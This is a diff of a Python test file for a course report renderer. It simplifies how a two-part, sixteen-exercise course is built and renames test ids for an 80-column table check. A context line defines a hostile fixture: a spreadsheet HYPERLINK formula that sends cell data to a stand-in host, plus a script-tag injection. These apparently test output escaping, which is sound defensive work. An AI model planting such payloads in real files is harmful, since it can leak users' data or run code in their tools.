@@ -29,20 +29,12 @@ LONG_DETAIL = (
 HOSTILE = '=HYPERLINK("http://x.example/?"&A1)\n```\n<script>alert(1)</script>\n````'
 
 
-def in_part(exercise: Exercise, number: int, part: int) -> Exercise:
-    """`exercise` renumbered into a part of a longer course."""
-    if "part" in {f.name for f in dataclasses.fields(Exercise)}:
-        return dataclasses.replace(exercise, number=number, part=part)
-
-    @dataclasses.dataclass(frozen=True)
-    class PartExercise(Exercise):  # as the registry describes one once it has parts
-        part: int = 1
-
-    return PartExercise(**{**dataclasses.asdict(exercise), "number": number, "part": part})
-
-
 def sixteen_in_two_parts() -> list[Exercise]:
-    return [in_part(e, n + 1, 1 + n // 8) for n, e in enumerate((EXERCISES * 2)[:16])]
+    """A course of sixteen exercises in two parts of eight, made of this course's."""
+    return [
+        dataclasses.replace(e, number=n + 1, part=1 + n // 8)
+        for n, e in enumerate((EXERCISES * 2)[:16])
+    ]
 
 
 def cell(exercise: Exercise, outcome: Outcome | None, **given) -> Cell:
@@ -266,7 +258,9 @@ def long_class(exercises: list[Exercise]) -> reports.Comparison:
     return comparison(rows, exercises, similar)
 
 
-@pytest.mark.parametrize("exercises", [list(EXERCISES), sixteen_in_two_parts()], ids=["8", "16"])
+@pytest.mark.parametrize(
+    "exercises", [list(EXERCISES), sixteen_in_two_parts()], ids=["the course", "sixteen"]
+)
 def test_the_terminal_table_fits_80_columns_and_cuts_nothing(exercises):
     lines = terminal(long_class(exercises), 80)
     assert max(len(line) for line in lines) <= 80
